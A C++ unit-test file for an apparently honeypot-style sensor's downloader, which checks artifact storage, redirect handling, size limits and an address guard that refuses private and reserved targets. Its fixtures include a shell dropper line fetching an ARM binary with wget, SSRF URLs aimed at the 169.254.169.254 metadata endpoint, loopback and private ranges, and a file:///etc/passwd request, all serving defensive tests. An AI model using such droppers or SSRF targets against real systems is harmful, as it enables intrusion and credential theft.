#include "sensor/download/downloader.h"

#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <openssl/evp.h>

#include <future>

#include "core/hex.h"
#include "testing/local_http_server.h"
#include "testing/sha256.h"
#include "testing/temp_dir.h"

namespace mitsu::sensor {
namespace {

using mitsu::testing::sha256_of;

using mitsu::testing::LocalHttpServer;

class DownloaderTest : public ::testing::Test {
 protected:
  mitsu::testing::TempDir dir{"downloader"};
  std::unique_ptr<artifacts::ArtifactStore> store =
      std::move(*artifacts::ArtifactStore::open({dir.path() / "artifacts"}));

  std::unique_ptr<Downloader> start(std::vector<std::string> allow,
                                    std::uint64_t max_bytes = 1 << 20) {
    DownloadOptions options;
    options.allow = std::move(allow);
    options.max_bytes = max_bytes;
    options.timeout = std::chrono::seconds(10);
    auto d = Downloader::start(options, *store);
    EXPECT_TRUE(d) << d.error();
    return std::move(*d);
  }

  static DownloadResult fetch(Downloader& d, const std::string& url) {
    std::promise<DownloadResult> promise;
    auto future = promise.get_future();
    bool queued = d.fetch(url, "session-1", [&](DownloadResult r) { promise.set_value(r); });
    EXPECT_TRUE(queued) << url;
    if (!queued) {
      return {};
    }
    return future.get();
  }
};

TEST_F(DownloaderTest, FetchesIntoTheArtifactStore) {
  std::string payload = "#!/bin/sh\nwget http://192.0.2.7/x.arm\n" + std::string(5000, 'z');
  LocalHttpServer server({{"/bins.sh", {200, payload, ""}}});
  auto d = start({"127.0.0.1/32"});
  DownloadResult r = fetch(*d, server.url("/bins.sh"));
  ASSERT_TRUE(r.ok) << r.error;
  EXPECT_EQ(r.size, payload.size());
  EXPECT_EQ(r.sha256, sha256_of(payload));
  EXPECT_EQ(r.content, payload);
  auto stored = store->read(r.sha256);
  ASSERT_TRUE(stored);
  EXPECT_EQ(std::string(reinterpret_cast<const char*>(stored->data()), stored->size()), payload);
  EXPECT_EQ(r.url, server.url("/bins.sh"));  // the file.download event's url.full
}

TEST_F(DownloaderTest, FollowsRedirectsWithinTheAllowlist) {
  LocalHttpServer server({{"/a", {302, "", "/b"}}, {"/b", {200, "second hop", ""}}});
  auto d = start({"127.0.0.1/32"});
  DownloadResult r = fetch(*d, server.url("/a"));
  ASSERT_TRUE(r.ok) << r.error;
  EXPECT_EQ(r.content, "second hop");
}

TEST_F(DownloaderTest, GuardRefusesReservedTargetsWithAnEmptyAllowlist) {
  LocalHttpServer server({{"/x", {200, "must never be fetched", ""}}});
  auto d = start({});
  std::string port = std::to_string(server.port());
  for (const std::string& url :
       {server.url("/x"), "http://localhost:" + port + "/x", "http://[::1]:" + port + "/x",
        "http://127.1.2.3:" + port + "/x", "http://0.0.0.0:" + port + "/x",
        std::string("http://10.0.0.1/x"), std::string("http://172.16.5.4/x"),
        std::string("http://192.168.1.1/x"), std::string("http://169.254.169.254/latest/meta-data"),
        std::string("http://[fe80::1]/x"), std::string("http://224.0.0.1/x"),
        std::string("http://[fd00::1]/x"), std::string("http://[::ffff:127.0.0.1]:") + port + "/x",
        "ftp://127.0.0.1:" + port + "/x", "tftp://127.0.0.1:" + port + "/x"}) {
    DownloadResult r = fetch(*d, url);
    EXPECT_FALSE(r.ok) << url;
    EXPECT_TRUE(r.error.starts_with("refused: ")) << url << ": " << r.error;
  }
  EXPECT_EQ(server.connections(), 0) << "the guard acts before any packet is sent";
  EXPECT_EQ(d->stats().succeeded, 0u);
}

TEST_F(DownloaderTest, GuardRefusesAPrivateTargetReachedThroughARedirect) {
  LocalHttpServer server({{"/metadata", {302, "", "http://169.254.169.254/latest/meta-data/"}},
                          {"/loopback", {302, "", "http://127.0.0.2:1/x"}},
                          {"/private", {301, "", "http://10.1.2.3/x"}}});
  auto d = start({"127.0.0.1/32"});  // the first hop is allowed, where it points is not
  for (std::string path : {"/metadata", "/loopback", "/private"}) {
    DownloadResult r = fetch(*d, server.url(path));
    EXPECT_FALSE(r.ok) << path;
    EXPECT_TRUE(r.error.starts_with("refused: ")) << path << ": " << r.error;
  }
  EXPECT_EQ(server.connections(), 3);
}

TEST_F(DownloaderTest, SizeCapAndHttpErrorsFailWithoutStoringAnything) {
  LocalHttpServer server({{"/big", {200, std::string(20000, 'b'), ""}}});
  auto d = start({"127.0.0.1/32"}, 10000);
  DownloadResult big = fetch(*d, server.url("/big"));
  EXPECT_FALSE(big.ok);
  EXPECT_NE(big.error.find("10000"), std::string::npos) << big.error;
  DownloadResult missing = fetch(*d, server.url("/nope"));
  EXPECT_FALSE(missing.ok);
  EXPECT_EQ(missing.error, "HTTP status 404");
  EXPECT_FALSE(d->fetch("file:///etc/passwd", "s", [](DownloadResult) {}));
  EXPECT_FALSE(d->fetch("gopher://x/", "s", [](DownloadResult) {}));
}

TEST(AddressGuard, ClassifiesAddresses) {
  AddressGuard guard;
  EXPECT_EQ(guard.refusal("8.8.8.8"), "");
  EXPECT_EQ(guard.refusal("2606:4700::1111"), "");
  EXPECT_EQ(guard.refusal("127.0.0.1"), "loopback (127.0.0.0/8)");
  EXPECT_EQ(guard.refusal("100.64.0.1"), "shared address space (100.64.0.0/10)");
  EXPECT_EQ(guard.refusal("172.31.255.255"), "private (172.16.0.0/12)");
  EXPECT_EQ(guard.refusal("172.32.0.0"), "");
  EXPECT_EQ(guard.refusal("255.255.255.255"), "reserved (240.0.0.0/4)");
  EXPECT_EQ(guard.refusal("::ffff:10.0.0.1"), "private (10.0.0.0/8)");
  EXPECT_EQ(guard.refusal("64:ff9b::a00:1"), "NAT64 (64:ff9b::/96)");
  auto allowed = AddressGuard::with_allowlist({"127.0.0.0/8", "fd00::/8"});
  ASSERT_TRUE(allowed);
  EXPECT_EQ(allowed->refusal("127.9.9.9"), "");
  EXPECT_EQ(allowed->refusal("fd12::1"), "");
  EXPECT_NE(allowed->refusal("10.0.0.1"), "");
  EXPECT_FALSE(AddressGuard::with_allowlist({"127.0.0.0/33"}));
  EXPECT_FALSE(AddressGuard::with_allowlist({"example.com"}));
}

}  // namespace
}  // namespace mitsu::sensor
